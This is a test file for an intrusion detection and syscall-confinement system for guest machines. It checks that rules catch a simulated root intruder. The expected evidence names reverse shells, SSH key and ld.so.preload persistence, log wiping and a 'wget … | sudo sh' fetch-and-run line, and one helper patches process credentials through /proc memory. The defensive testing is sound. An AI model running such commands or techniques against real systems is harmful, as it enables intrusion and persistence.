/**
 * Attacker: has got into a service and is root in its guest.
 * Asset: the tenant's knowledge of it; the guest's init, which speaks to the host.
 * Outcome: each thing that the shipped rules are there to catch is told when it is done in a real guest; an ordinary service is
 * not told of at all; what a rule or Kernort itself forbids does not happen.
 */
import { expect } from 'chai'
import { open, readFile } from 'node:fs/promises'
import { compileRuleset, readRuleFile, type RuleSource } from '../../../soda-host/kernort/rules/index.ts'
import type { LogRecord } from '../../../soda-host/logs/index.ts'
import { requires } from '../../helpers/capabilities.ts'
import { guestProgram } from '../../helpers/guest-program.ts'
import { inputFile } from '../../helpers/launched.ts'
import { watchedGuest, type WatchedGuest } from '../../helpers/watched-guest.ts'

/** For how long rules learn of an intruder; test/fixtures/kernort/intruder.c waits for it. */
const LEARN_SECONDS = 10
/** Nothing that is ordinary lasts so long here. */
const ORDINARY_SECONDS = 3600

interface Alert {
  sid: number
  gid: number
  comm: string
  evidence: string
}

async function shippedRules(learnSeconds: number): Promise<RuleSource[]> {
  const sources = await Promise.all(['intruder', 'service'].map(readRuleFile))
  return sources.map(({ file, text }) => ({
    file,
    text: text.replace(/first_time:\d+/, `first_time:${learnSeconds}`)
  }))
}

function tableOf(sources: RuleSource[]): { bytes: Uint8Array; digest: string } {
  const { table, coverage } = compileRuleset(sources)
  expect(coverage.refusals).to.deep.equal([])
  return table
}

function alertsOf(records: readonly LogRecord[]): Alert[] {
  return records
    .filter(({ kind }) => kind === 'alert')
    .map(({ fields, tails, comm }) => ({
      sid: Number(fields['sid']),
      gid: Number(fields['gid']),
      comm,
      evidence: String(tails['evidence'])
    }))
}

/** Replace bytes wherever they are in a guest's memory; says how often that was. */
async function overwrite(pid: number, wanted: Buffer, by: Buffer): Promise<number> {
  const maps = await readFile(`/proc/${pid}/maps`, 'latin1')
  await using memory = await open(`/proc/${pid}/mem`, 'r+')
  let count = 0
  for (const [, low = '', high = ''] of maps.matchAll(/^(\w+)-(\w+) rw.s .*\/dev\/shm\//gm)) {
    const [start, end] = [Number.parseInt(low, 16), Number.parseInt(high, 16)]
    const { buffer } = await memory.read(Buffer.alloc(end - start), 0, end - start, start)
    for (let at = buffer.indexOf(wanted); at !== -1; at = buffer.indexOf(wanted, at + 1), count++)
      await memory.write(by, 0, by.length, start + at)
  }
  return count
}

/** Run a program to its end, power off. */
async function run(watched: WatchedGuest, argv: string[]): Promise<{ output: string; records: LogRecord[] }> {
  const { channel, listener, ended } = watched.guest
  await channel.run({ argv, env: { PATH: '/usr/bin:/bin' } })
  await listener.exited
  await channel.powerOff()
  await ended
  const { records, findings } = await watched.read()
  expect(findings).to.deep.equal([])
  return { output: listener.text('stdout') + listener.text('stderr'), records }
}

/** Each act, the rule that it wakes, and what is told: of /bin/sh that it is busybox here. */
const CAUGHT: readonly (readonly [act: string, sid: number, evidence: RegExp])[] = [
  [
    'bound_shell',
    4800003,
    /^exec \/usr\/bin\/busybox: sh -c exit 0; by sh \(process \d+, uid 0\) of intruder$/
  ],
  ['reverse_shell', 4800005, /^exec \/usr\/bin\/busybox: sh -c exit 0; by sh /],
  ['relayed_shell', 4800011, /^exec \/usr\/bin\/busybox: sh -c exit 0; by sh .* of relayed_shell$/],
  ['shell_calls', 4800007, /^connect 127\.0\.0\.1:4444; by bash /],
  ['left_capability', 4800020, /^cred uid 1000 to 0, effective 1000 to 0; by left_capability /],
  ['ptrace_child', 4800021, /^ptrace of process \d+; by ptrace_child /],
  ['memory_program', 4800022, /^exec \/memfd:fileless/],
  ['cron', 4800030, /^write \/etc\/cron\.d\/job; by cron /],
  ['keys', 4800031, /^write \/root\/\.ssh\/authorized_keys; by keys /],
  ['preload', 4800032, /^rename \/etc\/ld\.so\.preload; by preload /],
  ['accounts', 4800033, /^write \/etc\/passwd; by accounts /],
  ['profile', 4800034, /^write \/root\/\.profile; by profile /],
  ['log_emptied', 4800040, /^truncate \/var\/log\/auth\.log; by log_emptied /],
  ['log_removed', 4800040, /^remove \/var\/log\/auth\.log; by log_removed /],
  ['history_off', 4800050, /^typed: unset HISTFILE; by history_off /],
  ['piped_script', 4800051, /^typed: wget -q -O - http:\/\/192\.0\.2\.1\/x \| sudo sh; by piped_script /]
]

const OF_INIT = ['init_traced', 'init_written', 'init_robbed']
/** As often in a minute Kernort tells of attempts on init. */
const GUARD_TOLD_MAX = 10
const GUARD_GID = 1000
const [GUARD_PTRACE, GUARD_SIGNAL, GUARD_PRIORITY, GUARD_LIMIT, GUARD_POWER] = [1, 2, 3, 4, 5]

describe('an intruder who is root in a guest', function () {
  this.timeout(120_000)

  let outcomes: ReadonlyMap<string, string>
  let alerts: Alert[]

  before(async function () {
    requires(this, 'uml')
    const program = await guestProgram('intruder', 'test/fixtures/kernort/intruder.c')
    await using watched = await watchedGuest({ rules: tableOf(await shippedRules(LEARN_SECONDS)) })
    await watched.guest.channel.putFile(program)
    const acts = [
      'log_there',
      ...CAUGHT.map(([act]) => act),
      ...OF_INIT,
      ...['init_stopped', 'init_limited', 'init_behind', 'floods_init'],
      ...['learnt', 'known_program', 'new_program', 'new_program']
    ]
    const { output, records } = await run(watched, ['/work/intruder', ...acts])
    outcomes = new Map(
      output
        .trim()
        .split('\n')
        .map((line) => line.split(' ') as [string, string])
    )
    alerts = alertsOf(records)
  })

  const evidenceOf = (sid: number): string[] =>
    alerts.filter((alert) => alert.sid === sid).map(({ evidence }) => evidence)

  for (const [act, sid, evidence] of CAUGHT)
    it(`is told of, and not held up, for ${act.replaceAll('_', ' ')}`, () => {
      expect(outcomes.get(act)).to.equal('did')
      expect(evidenceOf(sid).filter((text) => evidence.test(text))).to.have.length(1)
    })

  it('is told of for a program that the service has not started before, once; of others it is not', () => {
    const programs = evidenceOf(4800010)
    const [first, ...more] = programs.filter((text) => text.includes('/tmp/never-seen'))
    expect(first).to.match(/^exec \/tmp\/never-seen: never-seen nothing/)
    expect(more).to.deep.equal([])
    expect(programs.filter((text) => text.includes('/work/intruder nothing'))).to.deep.equal([])
  })

  it('does not get at init: not by tracing, its memory, its descriptors, signals, limits or priority', () => {
    const acts = { init_stopped: GUARD_SIGNAL, init_limited: GUARD_LIMIT, init_behind: GUARD_PRIORITY }
    const expected = new Map([...OF_INIT.map((act) => [act, GUARD_PTRACE] as const), ...Object.entries(acts)])
    for (const [act, sid] of expected) {
      expect(outcomes.get(act), act).to.match(/^E(PERM|ACCES)$/)
      const told = alerts.filter(({ gid, comm }) => gid === GUARD_GID && comm === act)
      expect(new Set(told.map((alert) => alert.sid)), act).to.deep.equal(new Set([sid]))
    }
  })

  it('floods nobody with attempts on init', () => {
    expect(outcomes.get('floods_init')).to.equal('EPERM')
    expect(alerts.filter(({ gid, sid }) => gid === GUARD_GID && sid === GUARD_SIGNAL)).to.have.length(
      GUARD_TOLD_MAX
    )
  })
})

describe('a hole in the guest’s kernel', function () {
  this.timeout(120_000)

  /** `struct cred` of the process that waits for it: real, saved, effective and file system ids of user and group. */
  const IDS = Buffer.from(Uint32Array.of(1001, 2001, 1003, 2003, 1002, 2002, 1002, 2002).buffer)

  it('that makes somebody root is told of at the next act, though no call made anybody root', async function () {
    requires(this, 'uml', 'root')
    const program = await guestProgram('intruder', 'test/fixtures/kernort/intruder.c')
    await using watched = await watchedGuest()
    const { channel, listener, ended, process: kernel } = watched.guest
    await channel.putFile(program)
    await channel.run({ argv: ['/work/intruder', 'hole'], env: {} })
    await listener.until(() => listener.text('stdout').includes('waiting for a hole'))
    // What code in the kernel could do, done from outside: to the memory of the machine.
    expect(await overwrite(kernel.pid ?? 0, IDS, Buffer.alloc(IDS.length))).to.be.at.least(1)
    await listener.exited
    await channel.powerOff()
    await ended
    const { records } = await watched.read()
    const told = alertsOf(records).map(({ gid, sid, evidence }) => ({ gid, sid, evidence }))
    expect(told).to.deep.equal([
      { gid: GUARD_GID, sid: GUARD_POWER, evidence: 'uid 1001 to 0, effective 1002 to 0' }
    ])
  })
})

describe('an ordinary service', function () {
  this.timeout(120_000)

  it('is not told of by any of the shipped rules', async function () {
    requires(this, 'uml')
    await using watched = await watchedGuest({ rules: tableOf(await shippedRules(ORDINARY_SECONDS)) })
    const script = await readFile('test/fixtures/kernort/ordinary.sh')
    await watched.guest.channel.putFile(inputFile('ordinary.sh', script, 0o755))
    await watched.guest.channel.putFile(await guestProgram('intruder', 'test/fixtures/kernort/intruder.c'))
    const { output, records } = await run(watched, ['/bin/sh', '/work/ordinary.sh'])
    expect(output).to.match(/^ordinary$/m)
    expect(alertsOf(records)).to.deep.equal([])
  })
})

describe('a service that may do little', function () {
  this.timeout(120_000)

  const CONFINED = `
    drop syscall (msg:"another program"; event:exec; exec.path; content:!"/work/"; startswith; sid:1; rev:1;)
    reject syscall (msg:"no way out"; event:connect; sid:2;)
    reject syscall any any -> any 4444 (msg:"no door"; event:bind; sid:3;)
    reject syscall (msg:"etc is read only"; event:write|rename|link|remove; file.path; content:"/etc/"; startswith; sid:4;)
    reject syscall (msg:"nobody becomes root"; event:cred; cred.euid_before:!0; cred.euid_after:0; sid:5;)
    reject syscall (msg:"nobody is traced"; event:ptrace; sid:6;)
    reject syscall (msg:"nothing is mounted"; event:mount|umount|move|remount|pivot; sid:7;)`

  it('may do no more, its root neither, and each attempt is told', async function () {
    requires(this, 'uml')
    const program = await guestProgram('intruder', 'test/fixtures/kernort/intruder.c')
    await using watched = await watchedGuest({ rules: tableOf([{ file: 'confined.rules', text: CONFINED }]) })
    await watched.guest.channel.putFile(program)
    const acts = [
      'bound_shell',
      'left_capability',
      'new_in_etc',
      'preload',
      'ptrace_child',
      'mounted',
      'shell'
    ]
    const { output, records } = await run(watched, ['/work/intruder', ...acts, 'known_program'])
    expect(output.trim().split('\n')).to.deep.equal([
      'bound_shell EPERM',
      'left_capability EPERM',
      'new_in_etc EPERM',
      'preload EPERM',

      'ptrace_child EPERM',
      'mounted EPERM',
      'shell KILL',
      'known_program did'
    ])
    const alerts = alertsOf(records)
    expect(alerts.map(({ sid }) => sid)).to.have.members([3, 5, 4, 4, 6, 7, 1])
    expect(alerts.every(({ evidence }) => evidence.startsWith('denied: '))).to.equal(true)
  })
})
